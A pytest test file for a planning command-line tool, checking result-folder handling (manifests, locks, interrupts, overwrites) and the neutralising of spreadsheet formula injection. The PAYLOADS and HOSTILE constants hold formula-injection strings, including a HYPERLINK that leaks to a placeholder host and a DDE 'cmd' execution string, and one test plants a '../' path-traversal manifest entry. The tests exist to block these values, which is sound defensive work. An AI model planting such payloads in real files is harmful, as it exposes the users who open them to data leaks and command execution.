"""Result folders: one run each (staged, swapped in, manifest, lock), safe spreadsheets, --out.

Every defect of issue 11 about outputs is reproduced here through the command line, on the
demo project (团城山街道) and copies of it; Chromium is replaced by stubs where a report is
written (its real output is tested in test_report.py).
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geoplan import _io, results
from geoplan._paths import REPO_ROOT, shipped_path
from geoplan.cli import main
from geoplan.errors import Interrupted, OutputError
from geoplan.rendering import browser, report
from geoplan.workflows import project
from geoplan.workflows.project import DEMO_PROJECT

SCENARIO_CSV = REPO_ROOT / "data" / "facilities" / "tuanchengshan_scenario.csv"
RELOCATION = REPO_ROOT / "data" / "demo" / "relocation.toml"
FACILITY_LINE = 'path = "../facilities/tuanchengshan_scenario.csv"'
PAYLOADS = (
    '=HYPERLINK("http://x.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)
PDF_STUB = b"%PDF-1.4\n% geoplan test stub\n"
PNG_STUB = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99"
    b"=\x1d\x00\x00\x00\x00IEND\xaeB`\x82"
)


def _project(folder: Path, facilities: Path, **replace: str) -> Path:
    """A copy of the demo project in ``folder`` reading ``facilities``."""
    text = DEMO_PROJECT.read_text(encoding="utf-8")
    assert FACILITY_LINE in text
    text = text.replace(FACILITY_LINE, f"path = {json.dumps(str(facilities))}")
    for old, new in replace.items():
        assert old in text
        text = text.replace(old, new)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "project.toml"
    path.write_text(text, encoding="utf-8")
    return path


def _every_second(folder: Path) -> Path:
    """The demo with every second facility: other figures than the demo's."""
    table = pd.read_csv(SCENARIO_CSV, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    csv = folder / "every_second.csv"
    folder.mkdir(parents=True, exist_ok=True)
    table.iloc[::2].to_csv(csv, index=False, encoding="utf-8-sig")
    return _project(folder, csv, **{'area = "团城山街道"': 'area = "团城山街道 every second"'})


def _snapshot(folder: Path) -> dict[str, str]:
    """Relative path -> sha256 of every file below ``folder``."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _one_error_line(capsys) -> str:
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    return err


@pytest.fixture
def fake_chromium(monkeypatch):
    """Chromium stubs: a 1-pixel screenshot and a tiny PDF, fast and without a browser."""

    def screenshot(page, out, **kwargs):
        Path(out).write_bytes(PNG_STUB)

    def print_pdf(page, out, **kwargs):
        assert Path(page).suffix == ".html", page  # printed from the HTML, never a PDF
        Path(out).write_bytes(PDF_STUB + Path(page).name.encode())

    monkeypatch.setattr(browser, "find_chromium", lambda: "/usr/bin/true")
    monkeypatch.setattr(browser, "screenshot", screenshot)
    monkeypatch.setattr(browser, "print_pdf", print_pdf)


@pytest.fixture(scope="module")
def second_project(tmp_path_factory) -> Path:
    return _every_second(tmp_path_factory.mktemp("every-second"))


# --------------------------------------------------------------------------- issue 11 defects


def test_run_overwrite_removes_what_the_previous_run_wrote(tmp_path, capsys, fake_chromium):
    """Defect: `run --overwrite` left map_en.html, the report and a scenario; report merged them."""
    out = tmp_path / "out"
    assert main(["-q", "demo", "--out", str(out)]) == 0
    assert (out / "map_en.html").is_file()
    assert main(["-q", "report", str(out)]) == 0
    assert main(["-q", "scenario", str(RELOCATION), "--out", str(out / "scenario")]) == 0
    (out / "my_notes.txt").write_text("mine", encoding="utf-8")
    assert main(["-q", "demo", "--out", str(out), "--lang", "zh", "--overwrite"]) == 0
    for stale in ("map_en.html", "report.html", "report.pdf", "scenario"):
        assert not (out / stale).exists(), stale
    assert (out / "my_notes.txt").read_text(encoding="utf-8") == "mine"
    assert main(["-q", "report", str(out), "--no-pdf"]) == 0
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "id='scenarios'" not in page


def test_report_overwrite_no_pdf_removes_the_old_pdf(demo_copy, capsys, fake_chromium):
    """Defect: `report --overwrite --no-pdf` left the previous report's PDF."""
    assert main(["-q", "report", str(demo_copy)]) == 0
    assert (demo_copy / "report.pdf").read_bytes().startswith(PDF_STUB)
    assert main(["-q", "report", str(demo_copy), "--overwrite", "--no-pdf"]) == 0
    assert (demo_copy / "report.html").is_file()
    assert not (demo_copy / "report.pdf").exists()


@pytest.fixture
def demo_copy(tmp_path) -> Path:
    out = tmp_path / "demo"
    assert main(["-q", "demo", "--out", str(out)]) == 0
    return out


def _interrupt(*args, **kwargs):
    raise KeyboardInterrupt


def test_ctrl_c_in_a_new_folder_leaves_nothing(tmp_path, capsys, monkeypatch):
    """Defect: Ctrl-C left summary.json and CSVs without map or run.json; report used them."""
    monkeypatch.setattr(project, "_write_maps", _interrupt)
    out = tmp_path / "new"
    assert main(["-q", "demo", "--out", str(out)]) == 130
    assert "interrupted" in _one_error_line(capsys)
    assert not out.exists()
    assert main(["-q", "report", str(out)]) == 1
    capsys.readouterr()


def test_ctrl_c_leaves_the_previous_result_whole(tmp_path, capsys, monkeypatch, second_project):
    out = tmp_path / "out"
    assert main(["-q", "run", str(second_project), "--out", str(out)]) == 0
    before = _snapshot(out)
    monkeypatch.setattr(project, "_write_maps", _interrupt)
    assert main(["-q", "demo", "--out", str(out), "--overwrite"]) == 130
    assert "interrupted" in _one_error_line(capsys)
    assert _snapshot(out) == before


def test_report_out_pdf_writes_the_html_beside_it(demo_copy, tmp_path, capsys, fake_chromium):
    """Defect: `report DIR --out r.pdf` printed the page over itself (blank PDF, no HTML)."""
    target = tmp_path / "r.pdf"
    assert main(["-q", "report", str(demo_copy), "--out", str(target)]) == 0
    printed = target.read_bytes()
    assert printed.startswith(PDF_STUB) and printed.endswith(b".html")  # printed from HTML
    assert "<html" in (tmp_path / "r.html").read_text(encoding="utf-8")


def test_check_overwrite_keeps_a_users_file(tmp_path, capsys, plan_indicators):
    """Defect: `check --overwrite` deleted failing_my_notes.geojson (cleanup by glob)."""
    args = ["-q", "check", str(DEMO_PROJECT), "--plan", "leshan_shizhong", "--out"]
    out = tmp_path / "check"
    assert main([*args, str(out)]) == 0
    mine = out / "failing_my_notes.geojson"
    mine.write_text('{"type": "FeatureCollection", "features": []}', encoding="utf-8")
    assert main([*args, str(out), "--overwrite"]) == 0
    assert mine.read_text(encoding="utf-8").startswith('{"type"')


_SLOW_RUN = """
import sys, time
import geoplan.workflows.project as p
compute = p.compute_project
def slow(*args, **kwargs):
    time.sleep(3)
    return compute(*args, **kwargs)
p.compute_project = slow
from geoplan.cli import main
from geoplan.errors import Interrupted, OutputError
sys.exit(main(["-q", "demo", "--out", sys.argv[1]]))
"""


def test_two_concurrent_runs_into_one_new_folder(tmp_path):
    """Defect: both exited 0, one silently replacing the other's files."""
    out = tmp_path / "shared-out"
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", _SLOW_RUN, str(out)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for _ in range(2)
    ]
    results = [(p.wait(timeout=300), p.stderr.read()) for p in procs]
    for p in procs:
        p.stdout.close()
        p.stderr.close()
    codes = sorted(code for code, _ in results)
    assert codes == [0, 1], results
    err = next(err for code, err in results if code == 1).strip()
    assert len(err.splitlines()) == 1 and err.startswith("geoplan: error:"), err


def _traveltimes_args(tmp_path: Path, out: Path) -> list[str]:
    demand = tmp_path / "homes.csv"
    demand.write_text(
        "demand_id,lon,lat,人口\nH-1,115.0357,30.2019,10\nH-2,115.0100,30.2190,20\n",
        encoding="utf-8",
    )
    return [
        "-q",
        "traveltimes",
        "--network",
        str(shipped_path("osm/huangshi_tuanchengshan_all_2022.graphml.gz")),
        "--facilities",
        str(SCENARIO_CSV),
        "--demand",
        str(demand),
        "--out",
        str(out),
    ]


def test_traveltimes_xlsx_is_a_real_workbook(tmp_path, capsys):
    """Defect: `traveltimes --out t.xlsx` wrote CSV text into an .xlsx."""
    out = tmp_path / "t.xlsx"
    assert main(_traveltimes_args(tmp_path, out)) == 0
    sheet = openpyxl.load_workbook(out).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("demand_id", "facility_id", "travel_time_s")
    assert [r[0] for r in rows[1:]] == ["H-1", "H-2"]
    assert isinstance(rows[1][2], float)


def test_traveltimes_out_folder_is_one_line(tmp_path, capsys):
    """Defect: `traveltimes --out <dir>` ended in a traceback."""
    folder = tmp_path / "folder"
    folder.mkdir()
    for extra in ([], ["--overwrite"]):
        assert main([*_traveltimes_args(tmp_path, folder), *extra]) == 1
        assert "folder" in _one_error_line(capsys)
    assert list(folder.iterdir()) == []


def test_an_input_inside_the_output_folder_is_refused(tmp_path, capsys):
    """Defect: a facility file named rejects.csv in the output folder was overwritten."""
    out = tmp_path / "out"
    out.mkdir()
    facilities = out / "rejects.csv"
    facilities.write_bytes(SCENARIO_CSV.read_bytes())
    path = _project(tmp_path / "p", facilities)
    for extra in ([], ["--overwrite"]):
        assert main(["-q", "run", str(path), "--out", str(out), *extra]) == 1
        assert "rejects.csv" in _one_error_line(capsys)
        assert facilities.read_bytes() == SCENARIO_CSV.read_bytes()
        assert sorted(p.name for p in out.iterdir()) == ["rejects.csv"]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    """The demo with facility names and ids that spreadsheets would run as formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    table = pd.read_csv(SCENARIO_CSV, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    table["名称"] = [PAYLOADS[i % len(PAYLOADS)] + f" #{i}" for i in range(len(table))]
    table["编号"] = [PAYLOADS[(i + 1) % len(PAYLOADS)] + f" #{i}" for i in range(len(table))]
    unplaced = table.iloc[[0]].assign(编号="X-1", 名称=PAYLOADS[0], 经度="", 纬度="")
    csv = folder / "hostile.csv"
    pd.concat([table, unplaced]).to_csv(csv, index=False, encoding="utf-8-sig")
    out = folder / "out"
    assert main(["-q", "run", str(_project(folder, csv)), "--out", str(out)]) == 0
    return out


def _assert_no_formula(path: Path) -> int:
    """No cell of the workbook is a formula; returns the number of neutralised cells."""
    book = openpyxl.load_workbook(path)
    neutralised = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith("'"):
                    neutralised += 1
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    return neutralised


def test_hostile_names_are_no_formulas_in_gaps_xlsx(hostile_run):
    """Defect: a facility named =HYPERLINK(...) became a live formula in gaps.xlsx."""
    assert _assert_no_formula(hostile_run / "gaps.xlsx") > 0


@pytest.mark.parametrize("name", ["gaps.csv", "coverage_points.csv", "rejects.csv"])
def test_hostile_names_are_neutralised_in_csv(hostile_run, name):
    """Defect: `+cmd|' /C calc'!A0` and `@SUM(1)` were written raw into every CSV."""
    table = pd.read_csv(hostile_run / name, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    cells = [*table.columns, *(c for column in table.columns for c in table[column])]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert [c for c in cells if c.startswith(tuple("'" + p for p in PAYLOADS))], name


def test_hostile_candidates_are_no_formulas_in_sites_xlsx(tmp_path, capsys):
    """Defect: a candidate named =HYPERLINK(...) became a live formula in sites.xlsx."""
    candidates = tmp_path / "candidates.csv"
    candidates.write_text(
        "candidate_id,lon,lat\n"
        + "".join(
            f'"{p.replace(chr(34), chr(34) * 2)}",{lon},30.2019\n'
            for p, lon in zip(PAYLOADS, (115.0357, 115.0200, 115.0100, 115.0300), strict=True)
        ),
        encoding="utf-8",
    )
    out = tmp_path / "sites"
    args = ["-q", "sites", str(DEMO_PROJECT), "--rule", "medical_walk_15", "--p", "2"]
    assert main([*args, "--candidates", str(candidates), "--out", str(out)]) == 0
    assert _assert_no_formula(out / "sites.xlsx") > 0
    for name in ("candidates.csv", "selected.csv"):
        table = pd.read_csv(out / name, dtype=str, encoding="utf-8-sig")
        assert all(c.startswith("'") for c in table["candidate_id"]), table["candidate_id"]


def _no_compute(*args, **kwargs):
    raise AssertionError("computed before checking --out")


@pytest.mark.parametrize("kind", ["file", "read-only", "not creatable"])
def test_unwritable_out_is_one_line_before_computing(tmp_path, capsys, monkeypatch, kind):
    """Defect: an --out that is a file or read-only was found after the whole computation."""
    out = {
        "file": tmp_path / "a_file",
        "read-only": Path("/sys"),  # sysfs: no new files, even for root
        "not creatable": Path("/proc/geoplan-no/out"),
    }[kind]
    if kind == "file":
        out.write_text("x", encoding="utf-8")
    monkeypatch.setattr(project, "compute_project", _no_compute)
    assert main(["-q", "demo", "--out", str(out)]) == 1
    assert str(out) in _one_error_line(capsys)


def test_full_disk_while_writing_is_one_line_and_leaves_nothing(tmp_path, capsys, monkeypatch):
    """Defect: a full disk ended in a traceback and a half-written folder."""
    real = pd.DataFrame.to_csv

    def full(self, path=None, *args, **kwargs):
        if path is not None and "coverage_points" in str(path):
            Path(path).write_bytes(b"partial")
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return real(self, path, *args, **kwargs)

    real_arrow = _io._csv_arrow

    def full_arrow(frame, path):  # the Arrow writer of the large tables (geoplan._io)
        if "coverage_points" in str(path):
            Path(path).write_bytes(b"partial")
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        return real_arrow(frame, path)

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    monkeypatch.setattr(_io, "_csv_arrow", full_arrow)
    out = tmp_path / "new"
    assert main(["-q", "demo", "--out", str(out)]) == 1
    assert "no space" in _one_error_line(capsys).lower()
    assert not out.exists()


# --------------------------------------------------------------------------- result folders


def _manifest(folder: Path) -> dict:
    return json.loads((folder / results.MANIFEST).read_text(encoding="utf-8"))


def test_the_manifest_lists_exactly_what_was_written(demo_copy):
    manifest = _manifest(demo_copy)
    assert manifest["finished"] is True and manifest["command"] == "demo"
    assert manifest["argv"] == ["geoplan", "-q", "demo", "--out", str(demo_copy)]
    on_disk = _snapshot(demo_copy)
    del on_disk[results.MANIFEST]
    assert {f["path"]: f["sha256"] for f in manifest["files"]} == on_disk
    for entry in manifest["files"]:
        assert (demo_copy / entry["path"]).stat().st_size == entry["bytes"]
    assert {"summary.json", "map.html", "map_en.html", "run.json"} <= on_disk.keys()
    assert not [p for p in demo_copy.iterdir() if p.name.startswith(".")]  # no lock, no staging


def test_a_held_lock_refuses_a_second_writer(tmp_path, capsys, monkeypatch):
    out = tmp_path / "out"
    monkeypatch.setattr(project, "compute_project", _no_compute)
    with results.output_folder(out, command="run"):  # another run writing there now
        assert main(["-q", "demo", "--out", str(out)]) == 1
        err = _one_error_line(capsys)
        assert f"{out} is being written by geoplan run (pid {os.getpid()}" in err
        assert main(["-q", "report", str(out)]) == 1  # no manifest yet: nothing to report
        capsys.readouterr()
    assert sorted(p.name for p in out.iterdir()) == [results.MANIFEST]


def test_a_stale_lock_is_reported_and_cleared(tmp_path, caplog):
    out = tmp_path / "out"
    out.mkdir()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], **_TEXT)
    holder = {"pid": int(dead.stdout), "command": "run", "started_at": "2024-01-01T00:00:00"}
    (out / results.LOCK).write_text(json.dumps(holder), encoding="utf-8")
    leftover = out / f"{results.STAGING_PREFIX}{holder['pid']}-dead"
    leftover.mkdir()
    (leftover / "summary.json").write_text("{}", encoding="utf-8")
    with results.output_folder(out, command="test") as staged:
        (staged.path / "a.txt").write_text("a", encoding="utf-8")
    assert f"stale lock of geoplan run (pid {holder['pid']}" in caplog.text
    assert "unfinished files were removed" in caplog.text
    assert sorted(p.name for p in out.iterdir()) == ["a.txt", results.MANIFEST]


_TEXT = {"capture_output": True, "text": True, "check": True}


def test_a_commit_cut_short_is_completed_by_the_next_command(demo_copy, capsys, monkeypatch):
    """The swap itself fails midway (here: an I/O error): the journal lets the next run finish."""
    real_merge = results._merge

    def broken(source, target):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(results, "_merge", broken)
    assert main(["-q", "demo", "--out", str(demo_copy), "--overwrite", "--lang", "en"]) == 1
    assert "the next geoplan command writing there completes it" in _one_error_line(capsys)
    assert results.read_manifest(demo_copy) is None  # visibly incomplete: report refuses
    assert main(["-q", "report", str(demo_copy)]) == 1
    assert "geoplan stopped while replacing the result" in _one_error_line(capsys)
    monkeypatch.setattr(results, "_merge", real_merge)
    assert main(["-q", "demo", "--out", str(demo_copy), "--overwrite"]) == 0
    manifest = _manifest(demo_copy)
    assert {f["path"] for f in manifest["files"]} >= {"map.html", "map_en.html"}
    assert not [p for p in demo_copy.iterdir() if p.name.startswith(".")]


def test_interrupts_wait_until_files_are_swapped():
    with pytest.raises(Interrupted, match="was complete"):
        with results._interrupts_deferred("it was complete"):
            os.kill(os.getpid(), signal.SIGINT)
            received = True  # reached: the signal waited
    assert received


def test_ctrl_c_during_a_report_leaves_the_result_as_it_was(demo_copy, capsys, monkeypatch):
    before = _snapshot(demo_copy)
    monkeypatch.setattr(browser, "find_chromium", lambda: "/usr/bin/true")
    monkeypatch.setattr(
        browser, "screenshot", lambda page, out, **kw: Path(out).write_bytes(PNG_STUB)
    )
    monkeypatch.setattr(browser, "print_pdf", _interrupt)
    assert main(["-q", "report", str(demo_copy)]) == 130
    assert "interrupted" in _one_error_line(capsys)
    assert _snapshot(demo_copy) == before


def test_report_refuses_a_result_changed_after_the_run(demo_copy, capsys):
    with (demo_copy / "gaps.csv").open("a", encoding="utf-8") as handle:
        handle.write("edited in Excel\n")
    assert main(["-q", "report", str(demo_copy), "--no-pdf"]) == 1
    err = _one_error_line(capsys)
    assert "gaps.csv was changed after geoplan wrote it" in err
    assert f"geoplan -q demo --out {demo_copy} --overwrite" in err


def test_report_leaves_out_a_part_of_an_earlier_result(demo_copy, fake_chromium, capsys):
    scenario = demo_copy / "scenario"
    assert main(["-q", "scenario", str(RELOCATION), "--out", str(scenario)]) == 0
    assert _manifest(scenario)["parent"]["id"] == _manifest(demo_copy)["id"]
    manifest = _manifest(scenario)
    manifest["parent"]["id"] = "an-earlier-run"
    (scenario / results.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    written = report.write_reports(demo_copy, pdf=False)
    assert any("written into an earlier result" in note for note in written.notes)
    assert "id='scenarios'" not in (demo_copy / "report.html").read_text(encoding="utf-8")


def test_an_older_result_without_manifest_is_migrated_once(tmp_path, capsys, fake_chromium):
    """A folder from before manifests: --overwrite replaces its known outputs, keeps the rest."""
    out = tmp_path / "old"
    out.mkdir()
    for name in ("summary.json", "map_en.html", "report.html", "report.pdf", "notes.md"):
        (out / name).write_text("old", encoding="utf-8")
    assert main(["-q", "demo", "--out", str(out), "--lang", "zh"]) == 1
    assert "an earlier geoplan result" in _one_error_line(capsys)
    assert main(["-q", "demo", "--out", str(out), "--lang", "zh", "--overwrite"]) == 0
    for name in ("map_en.html", "report.html", "report.pdf"):
        assert not (out / name).exists(), name
    assert (out / "notes.md").read_text(encoding="utf-8") == "old"
    assert main(["-q", "report", str(out), "--overwrite"]) == 0


def test_a_file_in_the_way_is_never_replaced(tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "gaps.csv").write_text("the planner's own", encoding="utf-8")
    for extra in ([], ["--overwrite"]):
        assert main(["-q", "demo", "--out", str(out), *extra]) == 1
        assert "gaps.csv is in the way" in _one_error_line(capsys)
    assert sorted(p.name for p in out.iterdir()) == ["gaps.csv"]


def test_a_manifest_naming_paths_outside_is_not_followed(demo_copy, tmp_path, capsys):
    """--overwrite deletes what a manifest lists: one naming ../ is not geoplan's."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    manifest = _manifest(demo_copy)
    manifest["files"].append({"path": "../victim.txt", "bytes": 4, "sha256": "0"})
    (demo_copy / results.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    assert results.read_manifest(demo_copy) is None
    assert main(["-q", "demo", "--out", str(demo_copy), "--overwrite"]) == 1
    assert "is not a geoplan manifest" in _one_error_line(capsys)
    assert victim.read_text(encoding="utf-8") == "keep"


def test_init_overwrite_keeps_the_planners_files(tmp_path, capsys):
    out = tmp_path / "pingluo"
    assert main(["-q", "init", "640221", "--out", str(out)]) == 0
    (out / "roads.osm.pbf").write_bytes(b"mine")
    assert main(["-q", "init", "640221", "--out", str(out)]) == 1
    assert "already holds the result of `geoplan init`" in _one_error_line(capsys)
    assert main(["-q", "init", "640221", "--out", str(out), "--overwrite"]) == 0
    assert (out / "roads.osm.pbf").read_bytes() == b"mine"
    assert {f["path"] for f in _manifest(out)["files"]} == {
        "boundary.geojson",
        "project.toml",
        "facilities_template.csv",
    }


def test_check_facilities_writes_beside_by_default(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "clinics.csv").write_bytes(SCENARIO_CSV.read_bytes())
    assert main(["-q", "check-facilities", "clinics.csv"]) == 0  # the input is in "."
    assert (tmp_path / "clinics_qa" / "qa.csv").is_file()
    assert _manifest(tmp_path / "clinics_qa")["command"] == "check-facilities"
    assert main(["-q", "check-facilities", "clinics.csv", "--out", "."]) == 1
    assert "input clinics.csv lies inside the output folder" in _one_error_line(capsys)


def test_traveltimes_formats_follow_the_extension(tmp_path, capsys):
    out = tmp_path / "t.parquet"
    assert main(_traveltimes_args(tmp_path, out)) == 0
    table = pd.read_parquet(out)
    assert table["demand_id"].tolist() == ["H-1", "H-2"]
    assert table["travel_time_s"].dtype == float
    for name in ("t.txt", "t.gpkg", "t"):
        assert main(_traveltimes_args(tmp_path, tmp_path / name)) == 1
        assert ".csv, .xlsx, .parquet" in _one_error_line(capsys)
        assert not (tmp_path / name).exists()
    homes = tmp_path / "homes.csv"
    args = _traveltimes_args(tmp_path, homes)
    before = homes.read_bytes()
    assert main([*args, "--overwrite"]) == 1
    assert "is also an input" in _one_error_line(capsys)
    assert homes.read_bytes() == before


# --------------------------------------------------------------------------- spreadsheets


HOSTILE = [*PAYLOADS, "\tTAB=1+1", "\rCR=1+1", "plain", "中文 =不是公式"]


def _hostile_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "name": HOSTILE,
            "number": [-2.5, 3, -1, 0, float("nan"), 7, 8, -9.25],
            "count": list(range(-4, 4)),
            "flag": [True, False] * 4,
            "=header": ["x"] * 8,
        }
    )


def test_write_csv_neutralises_text_and_keeps_numbers(tmp_path):
    path = tmp_path / "t.csv"
    _io.write_csv(_hostile_table(), path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert back.columns.tolist() == ["name", "number", "count", "flag", "'=header"]
    expected = [("'" + v if v[0] in "=+-@\t\r" else v) for v in HOSTILE]
    assert back["name"].tolist() == expected
    numbers = pd.read_csv(path, encoding="utf-8-sig")
    assert numbers["number"].dtype == float and numbers["number"].iloc[0] == -2.5
    assert numbers["count"].tolist() == list(range(-4, 4))  # negative numbers stay numbers
    assert "\"'+cmd|' /C calc'!A0\"" in raw.decode("utf-8-sig")  # text quoted, quotes kept


def test_write_xlsx_has_no_formula_cells_and_typed_numbers(tmp_path):
    path = tmp_path / "t.xlsx"
    table = _hostile_table()
    table["inf"] = [float("inf"), float("-inf"), 1, 2, 3, 4, 5, 6]
    _io.write_xlsx({"one": table, "two": table.head(2)}, path)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["one", "two"]
    sheet = book["one"]
    header = [c.value for c in sheet[1]]
    assert header == ["name", "number", "count", "flag", "'=header", "inf"]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" for c in names)
    expected = [("'" + v if v[0] in "=+-@\t\r" else v) for v in HOSTILE]
    assert [c.value for c in names] == [v.replace("\r", "\n") for v in expected]  # XML: CR→LF
    assert _assert_no_formula(path) >= 7
    row = [c for c in sheet[2]]
    assert (row[1].value, row[1].data_type) == (-2.5, "n")
    assert (row[2].value, row[2].data_type) == (-4, "n")
    assert (row[3].value, row[3].data_type) == (True, "b")
    assert row[5].value == "inf" and sheet["F3"].value == "'-inf"
    assert sheet["B6"].value is None  # NaN: an empty cell


def test_write_xlsx_refuses_more_rows_than_a_sheet_holds(tmp_path, monkeypatch):
    monkeypatch.setattr(_io, "XLSX_MAX_ROWS", 5)
    with pytest.raises(OutputError, match="more than an XLSX sheet holds"):
        _io.write_xlsx({"t": _hostile_table()}, tmp_path / "t.xlsx")
    assert not (tmp_path / "t.xlsx").exists()


def test_hostile_names_in_qa_outputs(tmp_path, capsys):
    table = pd.read_csv(SCENARIO_CSV, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    table["名称"] = [PAYLOADS[i % len(PAYLOADS)] for i in range(len(table))]
    twin = table.iloc[[0]].assign(编号="TWIN")  # a duplicate: a QA finding naming the row
    csv = tmp_path / "hostile.csv"
    pd.concat([table, twin]).to_csv(csv, index=False, encoding="utf-8-sig")
    out = tmp_path / "qa"
    assert main(["-q", "check-facilities", str(csv), "--out", str(out)]) == 0
    cells = pd.read_csv(out / "qa.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    values = [v for c in cells.columns for v in cells[c]]
    assert not [v for v in values if v.startswith(("=", "+", "-", "@"))]
    assert "'" + PAYLOADS[0] in cells["name"].tolist()
